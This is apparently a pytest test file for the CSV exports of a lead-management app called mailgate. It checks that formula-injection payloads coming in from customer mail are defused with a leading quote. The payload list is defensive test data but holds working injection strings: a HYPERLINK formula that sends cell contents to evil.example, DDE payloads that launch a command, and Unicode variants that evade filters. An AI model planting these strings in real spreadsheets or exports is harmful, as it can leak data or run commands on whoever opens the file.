"""CSV formula injection (issue 16, item 9): every CSV export of mailgate writes what a mail
carried either verbatim or defused with a leading ``'``, never as a formula.

The oracle below is written independently of :mod:`mailgate.csv_safe` from OWASP's
CSV-injection guidance: a cell is dangerous when, after blanks, invisible characters and
quote marks, its first character is (in its compatibility form) ``=``, ``+``, ``-`` or
``@`` — or when it starts with a tab or a carriage return.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from mailgate import db
from mailgate.csv_safe import csv_text, defuse, is_formula
from mailgate.labels import source_label
from mailgate.models import Customer, Lead, User, utcnow

from .distribution_helpers import form_mail, ingest
from .webui_helpers import ensure_user, logged_in, web_app

ADMIN = "admin@autohaus.example"
ROOT = Path(__file__).resolve().parent.parent
EXPORTS = (
    "/leads/export.csv",
    *(f"/reports.csv?table={t}" for t in ("sources", "kinds", "response", "ladder", "outcomes")),
)
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 170 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "\u22121",
)
BENIGN = (
    "Anna; =1+1",
    'Anna"\r\n=1+1',
    "Anna Schmidt",
    "Jörg Müller-Lüdenscheidt",
    "",
    "1234",
    "O'Neil",
    "a=b",
    "Ä@b.de",
)
QUOTES = "\"'`´‘’‚‛“”„‟′″«»‹›"


def dangerous(cell: str) -> bool:
    """The oracle: could a spreadsheet evaluate this cell?"""
    if cell.startswith(("\t", "\r")):
        return True
    for char in cell:
        if char.isspace() or char in QUOTES or unicodedata.category(char)[0] in "CZ":
            continue
        return unicodedata.normalize("NFKC", char)[:1] in "=+-@" or char == "\u2212"
    return False


def safe(cell: str) -> bool:
    """A cell is safe when it cannot run, or it starts with ``'`` (a spreadsheet shows it as
    text: that is the defused form)."""
    return not dangerous(cell) or cell.startswith("'")


def rows_of(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


# --- the writer ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_known_payload_is_defused(payload: str) -> None:
    assert dangerous(payload)
    assert defuse(payload) == "'" + payload
    (row,) = rows_of(csv_text([[payload, "x"]]).encode())
    assert row == ["'" + payload, "x"]  # one cell: separators and line breaks stay inside


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_written_verbatim(text: str) -> None:
    """Also a separator, quote or line break: the cell is quoted and stays one cell."""
    assert defuse(text) == text
    assert rows_of(csv_text([[text]]).encode()) == [[text]]


@given(st.text())
@example("\u3000@x")
@example("\ufeff=1")
def test_defuse_is_the_text_or_the_text_behind_one_quote(text: str) -> None:
    out = defuse(text)
    assert out == ("'" + text if dangerous(text) else text)
    assert is_formula(text) == dangerous(text)


def test_one_csv_writer_for_the_whole_product() -> None:
    """Every CSV export goes through mailgate.csv_safe: no other module writes CSV itself.

    The lead import reads uploaded CSV (``csv.reader`` only) and is the one other module
    that may import the csv module."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|from csv import")
    users = re.compile(r"import csv\b")
    sources = {
        str(path.relative_to(ROOT)): path.read_text(encoding="utf-8")
        for folder in ("mailgate", "webui", "parsers", "escalation", "distribution")
        for path in (ROOT / folder).rglob("*.py")
    }
    assert [p for p, text in sources.items() if writers.search(text)] == ["mailgate/csv_safe.py"]
    importing = sorted(p for p, text in sources.items() if users.search(text))
    assert importing == ["distribution/lead_import.py", "mailgate/csv_safe.py"]
    text_csv = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "webui").rglob("*.py")
        if "text/csv" in path.read_text(encoding="utf-8")
    ]
    for module in text_csv:  # each CSV response is built by the shared writer
        source = (ROOT / module).read_text(encoding="utf-8")
        assert "csv_safe" in source or "csvexport" in source, module


# --- every export, through the web UI ---------------------------------------------------


@dataclass
class Exports:
    factory: sessionmaker[Session]
    client: FlaskClient
    lead_id: int

    def write(self, name: str, message: str, subject: str, source: str, campaign: str) -> None:
        """What a mail can carry into the lead (the columns the exports read from)."""
        with db.session_scope(self.factory) as session:
            lead = session.get(Lead, self.lead_id)
            assert lead is not None and lead.customer is not None
            lead.customer.name = name
            lead.message, lead.subject = message, subject
            lead.source, lead.campaign, lead.location = source, campaign, campaign[:64]
            lead.vehicle = {"make": subject[:40], "model": name[:40], "vin": message[:17]}

    def cells(self) -> dict[str, list[str]]:
        found = {}
        for path in EXPORTS:
            response = self.client.get(path)
            body = response.data
            response.close()
            assert response.status_code == 200, path
            found[path] = [cell for row in rows_of(body) for cell in row]
        return found


@pytest.fixture
def exports(dealer: sessionmaker[Session]) -> Exports:
    ensure_user(dealer, ADMIN, "admin")
    with db.session_scope(dealer) as session:
        anna = session.scalar(select(User).where(User.email == "anna@autohaus.example"))
        assert anna is not None
        anna.name = '=HYPERLINK("http://evil.example")'  # a salesperson's name, too
        customer = Customer(name="x", email="kunde@kunden.example")
        session.add(customer)
        session.flush()
        lead = Lead(
            dedupe_key="csv-1",
            reply_token="csv-token-1",
            customer_id=customer.id,
            assignee_id=anna.id,
            status="closed",
            close_reason="purchased",
            received_at=utcnow() - timedelta(days=2),
            first_response_at=utcnow() - timedelta(days=1),
        )
        session.add(lead)
        session.flush()
        lead_id = lead.id
    return Exports(dealer, logged_in(web_app(dealer), ADMIN), lead_id)


# what a mail can carry: any text a database stores (PostgreSQL refuses NUL and surrogates)
MAIL_TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
        max_size=40,
    ),
    st.builds(
        lambda lead, payload, tail: lead + payload + tail,
        st.text(alphabet=" \t\r\n\"'\u00a0\u200b\u3000", max_size=3),
        st.sampled_from(("=", "+", "-", "@", "＝", "＋", "－", "＠", "=cmd|' /C calc'!A0")),
        st.text(max_size=10)
        .map(lambda t: t.replace("\x00", ""))
        .filter(lambda t: not any(unicodedata.category(c) == "Cs" for c in t)),
    ),
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=MAIL_TEXT, message=MAIL_TEXT, subject=MAIL_TEXT, source=MAIL_TEXT)
@example(name="=1+1", message="@x", subject="+1", source="=cmd|' /C calc'!A0")
def test_every_export_writes_mail_content_verbatim_or_defused(
    exports: Exports, name: str, message: str, subject: str, source: str
) -> None:
    """Property: whatever a customer name, message, subject or source is, every cell of
    every CSV export is harmless, and the name (lead list) and source (reports) appear in
    it verbatim or behind one ``'``."""
    source = source[:64] or "unknown"
    exports.write(name, message, subject, source, campaign=subject[:128])
    found = exports.cells()
    for path, cells in found.items():
        bad = [cell for cell in cells if not safe(cell)]
        assert not bad, (path, bad)
    assert {name, "'" + name} & set(found["/leads/export.csv"])
    shown = source_label(source, "de")  # reports name sources as the UI does ("Unbekannt")
    header = {shown, f"{shown} ({source})"}  # a name the header has already gets its code
    assert (header | {"'" + h for h in header}) & set(found["/reports.csv?table=sources"])
    assert {shown, "'" + shown} & set(found["/reports.csv?table=outcomes"])


def test_a_formula_in_a_mail_reaches_the_exports_defused(dealer: sessionmaker[Session]) -> None:
    """The whole path: a form mail whose customer calls himself a formula."""
    ensure_user(dealer, ADMIN, "admin")
    ingest(dealer, form_mail(1, name="=cmd|' /C calc'!A0"), form_mail(2, name="@SUM(A1)"))
    client = logged_in(web_app(dealer), ADMIN)
    cells = [c for row in rows_of(client.get("/leads/export.csv").data) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(A1)" in cells
    assert all(safe(c) for c in cells)
    for path in EXPORTS[1:]:
        assert all(safe(c) for row in rows_of(client.get(path).data) for c in row), path
